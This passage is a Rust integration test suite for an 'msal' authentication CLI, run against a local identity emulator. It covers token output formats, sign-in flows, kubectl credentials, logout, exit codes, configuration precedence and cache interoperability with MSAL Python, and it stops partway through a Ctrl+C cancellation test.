//! The built `msal` binary against an in-process emulator: every command and output format,
//! the exit codes, configuration precedence, a kubectl-style ExecCredential round trip, a
//! browser sign-in through `MSAL_BROWSER`, and a cache file written by MSAL Python.

use std::path::{Path, PathBuf};
use std::process::{Command as StdCommand, Stdio};
use std::time::Duration;

use assert_cmd::Command;
use entra_emulator::ManagedIdentityConfig;
use entra_emulator::broker::{BrokerOptions, BrokerService, PrivateSessionBus};
use entra_emulator::{ConnectionInfo, Emulator};
use entra_test_support::cache_file::access_token_targets as cached_targets;
use entra_test_support::logs::suite_log_file;
use entra_test_support::{python, repo_root};
use serde_json::Value;

/// A running emulator (control API on), its connection info and a private directory for the
/// cache and config files.
struct Fixture {
    runtime: tokio::runtime::Runtime,
    emulator: Emulator,
    info: ConnectionInfo,
    dir: tempfile::TempDir,
}

const USER_SCOPE: &str = "api://emulator-api/access_as_user";
const APP_SCOPE: &str = "api://emulator-api/.default";

fn fixture() -> Fixture {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let mut config = entra_emulator::ready_made().unwrap();
    config.settings.control_api = true;
    config.settings.device_code_interval_seconds = 1;
    let emulator = runtime.block_on(Emulator::start(config)).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    std::fs::create_dir_all(&state).unwrap();
    let info = emulator.connection_info(&state).unwrap();
    Fixture {
        runtime,
        emulator,
        info,
        dir,
    }
}

impl Fixture {
    fn cache_file(&self) -> PathBuf {
        self.dir.path().join("cache").join("token_cache.json")
    }

    fn public_client_id(&self) -> String {
        self.info.public_client.as_ref().unwrap().client_id.clone()
    }

    fn password(&self, prefix: &str) -> String {
        self.info
            .users
            .iter()
            .find(|u| u.username.starts_with(prefix))
            .unwrap()
            .password
            .clone()
    }

    /// Environment for the binary: this emulator, this cache, no stray configuration, and the
    /// log file when the whole suite's logs are captured.
    fn envs(&self) -> Vec<(&'static str, String)> {
        let mut envs = self.base_envs();
        envs.extend(suite_log_file("msal-cli").map(|f| ("MSAL_LOG_FILE", f.display().to_string())));
        envs
    }

    fn base_envs(&self) -> Vec<(&'static str, String)> {
        vec![
            ("MSAL_AUTHORITY", self.info.authority.clone()),
            ("MSAL_CA_FILE", self.info.ca_file.clone().unwrap()),
            ("MSAL_CLIENT_ID", self.public_client_id()),
            ("MSAL_CACHE_FILE", self.cache_file().display().to_string()),
            (
                "XDG_CONFIG_HOME",
                self.dir.path().join("config").display().to_string(),
            ),
            ("HOME", self.dir.path().display().to_string()),
        ]
    }

    fn msal(&self) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_msal"));
        for var in [
            "MSAL_OIDC_AUTHORITY",
            "MSAL_TENANT",
            "MSAL_CONFIG",
            "MSAL_PASSWORD",
            "MSAL_CLIENT_SECRET",
            "MSAL_BROWSER",
            "MSAL_SUBSCRIPTION",
            "KUBERNETES_EXEC_INFO",
            "RUST_LOG",
            "MSAL_LOG_FILE",
            "BROWSER",
        ] {
            cmd.env_remove(var);
        }
        cmd.envs(self.envs()).timeout(Duration::from_secs(60));
        cmd
    }

    fn login_alice(&self) {
        let out = self
            .msal()
            .args([
                "login",
                "--username",
                "alice@contoso.example",
                "--scope",
                USER_SCOPE,
            ])
            .write_stdin(format!("{}\n", self.password("alice")))
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("Signed in as alice@contoso.example")
        );
    }
}

fn stdout_json(output: &std::process::Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\nstderr: {}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        )
    })
}

fn run(cmd: &mut Command) -> std::process::Output {
    cmd.output().unwrap()
}

fn code(output: &std::process::Output) -> i32 {
    output.status.code().unwrap()
}

fn stderr(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn username_password_login_then_every_output_format_from_the_cache() {
    let f = fixture();
    f.login_alice();
    let token_requests = || {
        f.emulator
            .control()
            .requests()
            .iter()
            .filter(|r| r.path.ends_with("/oauth2/v2.0/token"))
            .count()
    };
    let after_login = token_requests();

    let json = stdout_json(&run(f.msal().args(["token", "--scope", USER_SCOPE])));
    assert_eq!(json["source"], "cache");
    assert_eq!(json["token_type"], "Bearer");
    assert_eq!(json["account"]["username"], "alice@contoso.example");
    assert_eq!(json["tenant"], f.info.tenant_id.as_str());
    let token = json["token"].as_str().unwrap().to_string();
    let expires_on = json["expires_on"].as_i64().unwrap();
    assert!(
        json["scopes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s == USER_SCOPE)
    );

    let bare = run(f
        .msal()
        .args(["token", "-s", USER_SCOPE, "--output", "token"]));
    assert_eq!(
        String::from_utf8(bare.stdout).unwrap(),
        format!("{token}\n")
    );

    let az = stdout_json(&run(f.msal().args(["token", "-s", USER_SCOPE, "-o", "az"])));
    assert_eq!(az["accessToken"], token.as_str());
    assert_eq!(az["expires_on"].as_i64().unwrap(), expires_on);
    assert_eq!(az["tokenType"], "Bearer");
    assert_eq!(az["tenant"], f.info.tenant_id.as_str());
    assert!(az.get("subscription").is_none(), "no subscription is known");
    let expires = az["expiresOn"].as_str().unwrap();
    let parsed = time::PrimitiveDateTime::parse(
        expires,
        time::macros::format_description!(
            "[year]-[month]-[day] [hour]:[minute]:[second].[subsecond digits:6]"
        ),
    )
    .unwrap_or_else(|e| panic!("expiresOn {expires:?}: {e}"));
    // Local time: the same instant as expires_on in some offset within a day.
    let utc = parsed.assume_utc().unix_timestamp();
    assert!(
        (utc - expires_on).abs() <= 14 * 3600,
        "{expires} vs {expires_on}"
    );

    let az_sub = stdout_json(&run(f
        .msal()
        .env("MSAL_SUBSCRIPTION", "00000000-1111-2222-3333-444444444444")
        .args(["token", "-s", USER_SCOPE, "-o", "az"])));
    assert_eq!(
        az_sub["subscription"],
        "00000000-1111-2222-3333-444444444444"
    );

    // Every answer came from the cache file: no token request after the sign-in.
    assert_eq!(token_requests(), after_login);

    // A new process with --force-refresh uses the refresh token in the file.
    let refreshed = stdout_json(&run(f.msal().args([
        "token",
        "-s",
        USER_SCOPE,
        "--force-refresh",
    ])));
    assert_eq!(refreshed["source"], "identity_provider");
    assert_ne!(refreshed["token"], token.as_str());
    assert_eq!(token_requests(), after_login + 1);
}

#[test]
fn exec_credential_round_trip_as_kubectl_runs_it() {
    let f = fixture();
    // kubectl, non-interactive, before anyone signed in: exit 4, nothing on stdout.
    let denied = run(f
        .msal()
        .env(
            "KUBERNETES_EXEC_INFO",
            r#"{"kind":"ExecCredential","apiVersion":"client.authentication.k8s.io/v1","spec":{"interactive":false}}"#,
        )
        .args(["token", "-s", USER_SCOPE, "-o", "exec-credential"]));
    assert_eq!(code(&denied), 4, "{}", stderr(&denied));
    assert!(denied.stdout.is_empty());
    assert!(
        stderr(&denied).contains("msal login"),
        "{}",
        stderr(&denied)
    );

    f.login_alice();
    let output = run(f
        .msal()
        .env(
            "KUBERNETES_EXEC_INFO",
            r#"{"kind":"ExecCredential","apiVersion":"client.authentication.k8s.io/v1","spec":{"interactive":false}}"#,
        )
        .args(["token", "-s", USER_SCOPE, "-o", "exec-credential"]));
    assert!(output.status.success(), "{}", stderr(&output));
    let cred = stdout_json(&output);
    assert_eq!(cred["apiVersion"], "client.authentication.k8s.io/v1");
    assert_eq!(cred["kind"], "ExecCredential");
    let token = cred["status"]["token"].as_str().unwrap();
    let expiration = cred["status"]["expirationTimestamp"].as_str().unwrap();
    let expiration =
        time::OffsetDateTime::parse(expiration, &time::format_description::well_known::Rfc3339)
            .unwrap();
    let json = stdout_json(&run(f.msal().args(["token", "-s", USER_SCOPE])));
    assert_eq!(json["token"], token);
    assert_eq!(
        json["expires_on"].as_i64().unwrap(),
        expiration.unix_timestamp()
    );

    // An older kubectl asks for v1beta1 and gets it back.
    let beta = stdout_json(&run(f
        .msal()
        .env(
            "KUBERNETES_EXEC_INFO",
            r#"{"kind":"ExecCredential","apiVersion":"client.authentication.k8s.io/v1beta1","spec":{"interactive":true}}"#,
        )
        .args(["token", "-s", USER_SCOPE, "-o", "exec-credential"])));
    assert_eq!(beta["apiVersion"], "client.authentication.k8s.io/v1beta1");
    assert_eq!(beta["status"]["token"], token);
}

#[test]
fn accounts_decode_and_logout() {
    let f = fixture();
    let none = run(f.msal().args(["accounts", "-o", "json"]));
    assert!(none.status.success());
    assert_eq!(stdout_json(&none), serde_json::json!([]));

    f.login_alice();
    let text = run(f.msal().arg("accounts"));
    assert!(String::from_utf8_lossy(&text.stdout).contains("alice@contoso.example"));
    let list = stdout_json(&run(f.msal().args(["accounts", "--output", "json"])));
    assert_eq!(list.as_array().unwrap().len(), 1);
    assert_eq!(list[0]["username"], "alice@contoso.example");
    assert_eq!(list[0]["tenant"], f.info.tenant_id.as_str());

    let token = stdout_json(&run(f.msal().args(["token", "-s", USER_SCOPE])))["token"]
        .as_str()
        .unwrap()
        .to_string();
    let decoded = run(f.msal().args(["decode", &token]));
    assert!(decoded.status.success());
    let out = String::from_utf8_lossy(&decoded.stdout);
    assert!(
        out.contains("\"preferred_username\": \"alice@contoso.example\""),
        "{out}"
    );
    assert!(out.contains("Expires"), "{out}");
    assert!(out.contains("(in "), "{out}");
    let decoded_json = stdout_json(&run(f
        .msal()
        .args(["decode", "-o", "json"])
        .write_stdin(format!("{token}\n"))));
    assert_eq!(decoded_json["header"]["alg"], "RS256");
    assert_eq!(decoded_json["claims"]["tid"], f.info.tenant_id.as_str());
    assert!(decoded_json["times"]["exp"].is_string());
    let garbage = run(f.msal().args(["decode", "not-a-token"]));
    assert_eq!(code(&garbage), 1);
    assert!(stderr(&garbage).contains("next:"), "{}", stderr(&garbage));

    let missing = run(f
        .msal()
        .args(["logout", "--account", "nobody@contoso.example"]));
    assert_eq!(code(&missing), 4, "{}", stderr(&missing));
    let out = run(f.msal().arg("logout"));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("Signed out alice@contoso.example"));
    assert_eq!(
        stdout_json(&run(f.msal().args(["accounts", "-o", "json"]))),
        serde_json::json!([])
    );
    let after = run(f
        .msal()
        .args(["token", "-s", USER_SCOPE, "--no-interactive"]));
    assert_eq!(code(&after), 4, "{}", stderr(&after));
    let cache: Value =
        serde_json::from_str(&std::fs::read_to_string(f.cache_file()).unwrap()).unwrap();
    assert!(cache["RefreshToken"].as_object().unwrap().is_empty());
}

#[test]
fn logout_all_and_choosing_among_several_accounts() {
    let f = fixture();
    f.login_alice();
    f.msal()
        .args([
            "login",
            "--username",
            "carol@fabrikam.example",
            "-s",
            USER_SCOPE,
        ])
        .env("MSAL_PASSWORD", f.password("carol"))
        .assert()
        .success();
    let several = run(f
        .msal()
        .args(["token", "-s", USER_SCOPE, "--no-interactive"]));
    assert_eq!(code(&several), 3, "{}", stderr(&several));
    assert!(stderr(&several).contains("--account"));
    let carol = stdout_json(&run(f.msal().args([
        "token",
        "-s",
        USER_SCOPE,
        "--account",
        "carol@fabrikam.example",
    ])));
    assert_eq!(carol["account"]["username"], "carol@fabrikam.example");
    assert_eq!(code(&run(f.msal().arg("logout"))), 3);
    let all = run(f.msal().args(["logout", "--all"]));
    assert!(all.status.success());
    assert_eq!(
        String::from_utf8_lossy(&all.stdout)
            .matches("Signed out")
            .count(),
        2
    );
}

#[test]
fn device_code_login_prints_the_message_and_waits_for_approval() {
    let f = fixture();
    let mut cmd = StdCommand::new(env!("CARGO_BIN_EXE_msal"));
    cmd.env_remove("MSAL_BROWSER")
        .env_remove("KUBERNETES_EXEC_INFO");
    for (k, v) in f.envs() {
        cmd.env(k, v);
    }
    let child = cmd
        .args([
            "login",
            "--device-code",
            "--scope",
            USER_SCOPE,
            "-o",
            "json",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let control = f.emulator.control();
    let mut approved = false;
    for _ in 0..600 {
        if let Some(p) = control.pending_device_codes().first() {
            control
                .approve_device_code(&p.user_code, "alice@contoso.example")
                .unwrap();
            approved = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(approved, "the CLI never started a device-code flow");
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("/devicelogin"),
        "{}",
        stderr(&output)
    );
    assert_eq!(stdout_json(&output)["username"], "alice@contoso.example");
    let json = stdout_json(&run(f.msal().args(["token", "-s", USER_SCOPE])));
    assert_eq!(json["source"], "cache");
}

/// Runs `msal ARGS` with `MSAL_BROWSER` set to a script that hands the URL to the test, which
/// plays the browser: it opens the page, approves the sign-in as `user` (or denies it) through
/// the control API, and posts the answer to the CLI's loopback listener.
fn with_browser(f: &Fixture, args: &[&str], user: Option<&str>) -> std::process::Output {
    let url_file = f.dir.path().join("url.txt");
    let _ = std::fs::remove_file(&url_file);
    let script = f.dir.path().join("browser.sh");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\nprintf '%s' \"$1\" > '{}.tmp' && mv '{0}.tmp' '{0}'\n",
            url_file.display()
        ),
    )
    .unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let mut cmd = StdCommand::new(env!("CARGO_BIN_EXE_msal"));
    for (k, v) in f.envs() {
        cmd.env(k, v);
    }
    let child = cmd
        .env("MSAL_BROWSER", &script)
        .args(args)
        .args(["--timeout", "60"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let url = wait_for_file(&url_file);
    let state = url::Url::parse(&url)
        .unwrap()
        .query_pairs()
        .find(|(k, _)| k == "state")
        .map(|(_, v)| v.into_owned())
        .unwrap();
    let ca = f.emulator.ca_pem().unwrap().to_string();
    let control = f.emulator.control();
    f.runtime.block_on(async {
        let http = reqwest::Client::builder()
            .add_root_certificate(reqwest::Certificate::from_pem(ca.as_bytes()).unwrap())
            .build()
            .unwrap();
        http.get(&url).send().await.unwrap();
        let completion = match user {
            Some(u) => control.approve_authorization(Some(&state), u).unwrap(),
            None => control.deny_authorization(Some(&state)).unwrap(),
        };
        assert!(completion.redirect_uri.starts_with("http://localhost:"));
        reqwest::Client::new()
            .post(&completion.redirect_uri)
            .form(&completion.params)
            .send()
            .await
            .unwrap();
    });
    child.wait_with_output().unwrap()
}

/// `msal login` without a scope signs in only (just the reserved scopes on the wire);
/// `--login-hint` and `--prompt` reach the sign-in page.
#[test]
fn login_without_a_scope_signs_in_only_with_hint_and_prompt() {
    let f = fixture();
    let output = with_browser(
        &f,
        &[
            "login",
            "--login-hint",
            "alice@contoso.example",
            "--prompt",
            "select_account",
        ],
        Some("alice@contoso.example"),
    );
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        String::from_utf8_lossy(&output.stdout).contains("Signed in as alice@contoso.example"),
        "{}",
        String::from_utf8_lossy(&output.stdout)
    );
    let url = std::fs::read_to_string(f.dir.path().join("url.txt")).unwrap();
    let query: std::collections::HashMap<String, String> = url::Url::parse(&url)
        .unwrap()
        .query_pairs()
        .into_owned()
        .collect();
    let mut scope: Vec<&str> = query["scope"].split(' ').collect();
    scope.sort_unstable();
    assert_eq!(scope, ["offline_access", "openid", "profile"]);
    assert_eq!(query["login_hint"], "alice@contoso.example");
    assert_eq!(query["prompt"], "select_account");
}

#[test]
fn browser_sign_in_through_msal_browser() {
    let f = fixture();
    let output = with_browser(
        &f,
        &["token", "--scope", USER_SCOPE, "-o", "json"],
        Some("alice@contoso.example"),
    );
    assert!(output.status.success(), "{}", stderr(&output));
    let json = stdout_json(&output);
    assert_eq!(json["source"], "identity_provider");
    assert_eq!(json["account"]["username"], "alice@contoso.example");
    assert!(stderr(&output).contains("/authorize?"), "the URL is shown");
    // The page, not msal, sees a redirect URI missing from the app registration: say what to
    // register next to the URL.
    assert!(
        stderr(&output).contains(
            "AADSTS50011 (redirect URI mismatch), the app registration lacks http://localhost"
        ),
        "{}",
        stderr(&output)
    );
    let again = stdout_json(&run(f.msal().args([
        "token",
        "-s",
        USER_SCOPE,
        "--no-interactive",
    ])));
    assert_eq!(again["source"], "cache");
}

#[test]
fn a_declined_browser_sign_in_is_a_user_cancel() {
    let f = fixture();
    let output = with_browser(&f, &["login", "--scope", USER_SCOPE], None);
    assert_eq!(output.status.code(), Some(5), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("access_denied"),
        "{}",
        stderr(&output)
    );
    assert!(stderr(&output).contains("next:"), "{}", stderr(&output));
}

fn wait_for_file(path: &Path) -> String {
    for _ in 0..1200 {
        if let Ok(s) = std::fs::read_to_string(path)
            && !s.is_empty()
        {
            return s;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("{} never appeared", path.display());
}

#[test]
fn app_tokens_with_a_secret_or_a_certificate() {
    let f = fixture();
    let c = f.info.confidential_client.as_ref().unwrap();
    let secret = c.client_secret.clone().unwrap();
    let first = stdout_json(&run(f
        .msal()
        .args([
            "token",
            "--client-id",
            &c.client_id,
            "--client-secret",
            "-s",
            APP_SCOPE,
        ])
        .write_stdin(format!("{secret}\n"))));
    assert_eq!(first["source"], "identity_provider");
    assert!(first["account"].is_null());
    assert_eq!(first["tenant"], f.info.tenant_id.as_str());
    let second = stdout_json(&run(f.msal().env("MSAL_CLIENT_SECRET", &secret).args([
        "token",
        "--client-id",
        &c.client_id,
        "--client-secret",
        "-s",
        APP_SCOPE,
    ])));
    assert_eq!(
        second["source"], "cache",
        "the app token was kept in the file"
    );
    assert_eq!(second["token"], first["token"]);

    let wrong = run(f.msal().env("MSAL_CLIENT_SECRET", "not-the-secret").args([
        "token",
        "--client-id",
        &c.client_id,
        "--client-secret",
        "-s",
        APP_SCOPE,
        "--force-refresh",
    ]));
    assert_eq!(code(&wrong), 7, "{}", stderr(&wrong));
    let err = stderr(&wrong);
    assert!(
        err.contains("invalid_client") && err.contains("AADSTS7000215"),
        "{err}"
    );
    assert!(err.contains("next: check the client secret"), "{err}");
    assert!(!err.contains("not-the-secret"), "secrets never printed");

    let none = run(f.msal().args([
        "token",
        "--client-id",
        &c.client_id,
        "--client-secret",
        "-s",
        APP_SCOPE,
    ]));
    assert_eq!(code(&none), 3, "{}", stderr(&none));

    let cert = f.info.certificate_client.as_ref().unwrap();
    let az = stdout_json(&run(f.msal().args([
        "token",
        "--client-id",
        &cert.client_id,
        "--certificate",
        &cert.private_key_file,
        "--certificate-cert",
        &cert.certificate_file,
        "-s",
        APP_SCOPE,
        "-o",
        "az",
    ])));
    assert!(az["accessToken"].as_str().unwrap().starts_with("eyJ"));
    assert_eq!(az["tenant"], f.info.tenant_id.as_str());
}

#[test]
fn logout_app_removes_the_app_tokens_without_a_credential() {
    let f = fixture();
    let c = f.info.confidential_client.as_ref().unwrap();
    let secret = c.client_secret.clone().unwrap();
    let app_token = || {
        stdout_json(&run(f.msal().env("MSAL_CLIENT_SECRET", &secret).args([
            "token",
            "--client-id",
            &c.client_id,
            "--client-secret",
            "-s",
            APP_SCOPE,
        ])))
    };
    assert_eq!(app_token()["source"], "identity_provider");
    assert_eq!(app_token()["source"], "cache");
    let removed =
        run(f
            .msal()
            .args(["logout", "--app", "--client-id", &c.client_id, "-o", "json"]));
    assert!(removed.status.success(), "{}", stderr(&removed));
    assert_eq!(
        stdout_json(&removed)["app_tokens_removed_for"],
        c.client_id.as_str()
    );
    assert_eq!(
        app_token()["source"],
        "identity_provider",
        "the cached app token was removed from the file"
    );
    let text = run(f
        .msal()
        .args(["logout", "--app", "--client-id", &c.client_id]));
    assert!(
        String::from_utf8_lossy(&text.stdout).contains("Removed the app tokens of"),
        "{}",
        stderr(&text)
    );
    // An app needs its own client id; --app and --all do not mix.
    let no_id = run(f
        .msal()
        .env_remove("MSAL_CLIENT_ID")
        .args(["logout", "--app"]));
    assert_eq!(code(&no_id), 3, "{}", stderr(&no_id));
    assert!(stderr(&no_id).contains("--client-id"), "{}", stderr(&no_id));
    let both = run(f.msal().args(["logout", "--app", "--all"]));
    assert_eq!(code(&both), 2, "{}", stderr(&both));
}

#[test]
fn errors_have_one_line_a_next_step_and_a_distinct_exit_code() {
    let f = fixture();
    // No client id: the Azure CLI's is used for a user token; an app token needs its own.
    let no_client = run(f.msal().env_remove("MSAL_CLIENT_ID").args([
        "token",
        "--no-interactive",
        "-s",
        USER_SCOPE,
    ]));
    assert_eq!(code(&no_client), 4);
    let err = stderr(&no_client);
    assert!(
        err.contains(&format!(
            "next: sign in first with `msal login --scope {USER_SCOPE}`"
        )),
        "{err}"
    );
    assert!(
        err.contains("client id 04b07795-8ddb-461a-bbee-02f9e1bf7b46"),
        "{err}"
    );
    let no_app_client = run(f.msal().env_remove("MSAL_CLIENT_ID").args([
        "token",
        "--client-secret",
        "-",
        "-s",
        APP_SCOPE,
    ]));
    assert_eq!(code(&no_app_client), 3);
    let err = stderr(&no_app_client);
    assert!(err.contains("app's own client id"), "{err}");
    assert!(err.contains("next: pass --client-id"), "{err}");

    let no_scope = run(f.msal().arg("token"));
    assert_eq!(code(&no_scope), 3, "{}", stderr(&no_scope));

    // --broker with an app client of a confidential kind is still a configuration error.
    let broker = run(f.msal().args([
        "token",
        "--broker",
        "--client-secret",
        "x",
        "-s",
        USER_SCOPE,
    ]));
    assert_eq!(code(&broker), 2, "{}", stderr(&broker));

    // Nothing listens on port 1.
    let network = run(f
        .msal()
        .env(
            "MSAL_AUTHORITY",
            format!("https://127.0.0.1:1/{}", f.info.tenant_id),
        )
        .args(["login", "--device-code", "-s", USER_SCOPE]));
    assert_eq!(code(&network), 6, "{}", stderr(&network));
    assert!(stderr(&network).contains("next:"));
    let verbose = run(f
        .msal()
        .env(
            "MSAL_AUTHORITY",
            format!("https://127.0.0.1:1/{}", f.info.tenant_id),
        )
        .args(["login", "--device-code", "-s", USER_SCOPE, "--verbose"]));
    assert!(stderr(&verbose).contains("detail:"), "{}", stderr(&verbose));

    // A corrupt cache is reported, and left as it was.
    std::fs::create_dir_all(f.cache_file().parent().unwrap()).unwrap();
    std::fs::write(f.cache_file(), "{not json").unwrap();
    let corrupt = run(f.msal().arg("accounts"));
    assert_eq!(code(&corrupt), 1, "{}", stderr(&corrupt));
    assert!(
        stderr(&corrupt).contains("--cache-file"),
        "{}",
        stderr(&corrupt)
    );
    assert_eq!(
        std::fs::read_to_string(f.cache_file()).unwrap(),
        "{not json"
    );

    let usage = run(f.msal().args(["token", "--output", "yaml"]));
    assert_eq!(code(&usage), 2);
}

#[test]
fn configuration_precedence_flag_then_env_then_file() {
    let f = fixture();
    f.login_alice();
    let config = f.dir.path().join("config").join("msal").join("config.toml");
    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
    std::fs::write(
        &config,
        format!(
            "client_id = \"{}\"\ntenant = \"from-file\"\nscopes = [\"{USER_SCOPE}\"]\n",
            f.public_client_id()
        ),
    )
    .unwrap();
    let doctor = |cmd: &mut Command| {
        let out = run(cmd.args(["doctor", "-o", "json"]));
        let v = stdout_json(&out);
        let config = v
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["title"] == "Configuration")
            .unwrap()["values"]
            .clone();
        (config, code(&out))
    };
    let (v, _) = doctor(
        f.msal()
            .env_remove("MSAL_CLIENT_ID")
            .env_remove("MSAL_AUTHORITY"),
    );
    assert!(
        v["client id"].as_str().unwrap().ends_with("(config file)"),
        "{v}"
    );
    assert_eq!(v["tenant"], "from-file (config file)");
    assert_eq!(
        v["effective authority"],
        "https://login.microsoftonline.com/from-file"
    );
    let (v, _) = doctor(f.msal().env("MSAL_CLIENT_ID", "env-id"));
    assert_eq!(v["client id"], "env-id (environment MSAL_CLIENT_ID)");
    let (v, _) = doctor(
        f.msal()
            .env("MSAL_CLIENT_ID", "env-id")
            .args(["--client-id", "flag-id"]),
    );
    assert_eq!(v["client id"], "flag-id (command line)");

    // The file's scopes are the default scopes; the file's tenant replaces the authority's.
    let bad_tenant = run(f.msal().args(["token", "--no-interactive"]));
    assert_ne!(
        code(&bad_tenant),
        0,
        "the file's tenant does not exist in the emulator"
    );
    std::fs::write(
        &config,
        format!(
            "tenant = \"{}\"\nscopes = [\"{USER_SCOPE}\"]\n",
            f.info.tenant_id
        ),
    )
    .unwrap();
    let ok = stdout_json(&run(f.msal().args(["token", "--no-interactive"])));
    assert_eq!(ok["source"], "cache");

    std::fs::write(&config, "client_idd = \"typo\"\n").unwrap();
    let typo = run(f.msal().arg("accounts"));
    assert_eq!(code(&typo), 3);
    assert!(stderr(&typo).contains("config.toml"), "{}", stderr(&typo));
}

#[test]
fn doctor_reports_every_section() {
    let f = fixture();
    let out = run(f.msal().arg("doctor"));
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    for expected in [
        "Configuration",
        "Token cache",
        "encrypted",
        "Authority",
        "discovery               ok",
        "token endpoint",
        "Sign-in",
        "http://localhost",
    ] {
        assert!(text.contains(expected), "missing {expected:?} in\n{text}");
    }
    let broken = run(f
        .msal()
        .env(
            "MSAL_AUTHORITY",
            format!("https://127.0.0.1:1/{}", f.info.tenant_id),
        )
        .arg("doctor"));
    assert_eq!(code(&broken), 6, "{}", stderr(&broken));
    assert!(String::from_utf8_lossy(&broken.stdout).contains("FAILED"));
}

#[test]
fn help_has_examples_and_completions_are_generated() {
    let f = fixture();
    for sub in [
        vec![],
        vec!["login"],
        vec!["token"],
        vec!["accounts"],
        vec!["logout"],
        vec!["decode"],
        vec!["doctor"],
        vec!["demo"],
        vec!["emulator", "serve"],
        vec!["completions"],
    ] {
        let mut args = sub.clone();
        args.push("--help");
        let out = run(f.msal().args(&args));
        assert!(out.status.success(), "{args:?}");
        let help = String::from_utf8_lossy(&out.stdout);
        assert!(
            help.contains("Example"),
            "no example in `msal {}`",
            args.join(" ")
        );
        if sub.is_empty() {
            assert!(help.contains("Exit codes:"), "{help}");
        }
    }
    for shell in ["bash", "zsh", "fish", "powershell"] {
        let out = run(f.msal().args(["completions", shell]));
        assert!(out.status.success());
        let script = String::from_utf8_lossy(&out.stdout);
        assert!(
            script.contains("msal") && script.contains("token"),
            "{shell}"
        );
    }
}

/// A cache file MSAL Python 1.39 wrote (it signed alice in against the emulator) answers
/// `msal token` without a network round trip for the token.
#[test]
fn reads_a_cache_file_written_by_msal_python() {
    let Some(python) = python() else { return };
    let f = fixture();
    let info_path = f.dir.path().join("info.json");
    std::fs::write(&info_path, serde_json::to_string(&f.info).unwrap()).unwrap();
    let cache = f.dir.path().join("python_cache.json");
    let result = f.dir.path().join("python_result.json");
    let script = repo_root().join("interop/msal_cli_python.py");
    let out = StdCommand::new(&python)
        .arg(&script)
        .arg("signin")
        .args([&info_path, &cache, &result])
        .env_remove("REQUESTS_CA_BUNDLE")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "MSAL Python: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let expected: Value = serde_json::from_str(&std::fs::read_to_string(&result).unwrap()).unwrap();
    let accounts = stdout_json(&run(f
        .msal()
        .args(["accounts", "-o", "json", "--cache-file"])
        .arg(&cache)));
    assert_eq!(accounts[0]["username"], expected["username"]);
    assert_eq!(accounts[0]["home_account_id"], expected["home_account_id"]);
    let token = run(f
        .msal()
        .args([
            "token",
            "-s",
            USER_SCOPE,
            "--no-interactive",
            "-o",
            "token",
            "--cache-file",
        ])
        .arg(&cache));
    assert!(token.status.success(), "{}", stderr(&token));
    assert_eq!(
        String::from_utf8(token.stdout).unwrap().trim(),
        expected["access_token"].as_str().unwrap()
    );
    // And MSAL Python still reads the file after we used it.
    let again = StdCommand::new(&python)
        .arg(&script)
        .arg("silent")
        .args([&info_path, &cache])
        .arg(USER_SCOPE)
        .output()
        .unwrap();
    assert!(
        again.status.success(),
        "{}",
        String::from_utf8_lossy(&again.stderr)
    );
    assert_eq!(
        String::from_utf8(again.stdout).unwrap().trim(),
        expected["access_token"].as_str().unwrap()
    );
}

/// A revoked refresh token: the silent refresh gets `invalid_grant`, which means the user must
/// sign in again (exit code 4 without interaction).
#[test]
fn a_revoked_refresh_token_means_interaction_required() {
    let f = fixture();
    f.login_alice();
    assert!(
        f.emulator
            .control()
            .revoke_refresh_tokens(Some("alice@contoso.example"))
            > 0
    );
    let cached = stdout_json(&run(f.msal().args([
        "token",
        "-s",
        USER_SCOPE,
        "--no-interactive",
    ])));
    assert_eq!(
        cached["source"], "cache",
        "the cached access token is still good"
    );
    let out = run(f.msal().args([
        "token",
        "-s",
        USER_SCOPE,
        "--no-interactive",
        "--force-refresh",
    ]));
    assert_eq!(code(&out), 4, "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("invalid_grant"), "{err}");
    assert!(
        err.contains("next: sign in again with `msal login`"),
        "{err}"
    );
    assert!(out.stdout.is_empty());
}

/// Ctrl+C (SIGINT) while waiting for a device-code sign-in: exit code 5.
#[cfg(unix)]
#[test]
fn ctrl_c_cancels_a_device_code_sign_in() {
    let f = fixture();
    let mut cmd = StdCommand::new(env!("CARGO_BIN_EXE_msal"));
    for (k, v) in f.envs() {
        cmd.env(k, v);
    }
    let child = cmd
        .args(["login", "--device-code", "--scope", USER_SCOPE])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let control = f.emulator.control();
    let mut started = false;
    for _ in 0..600 {
        if !control.pending_device_codes().is_empty() {
            started = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
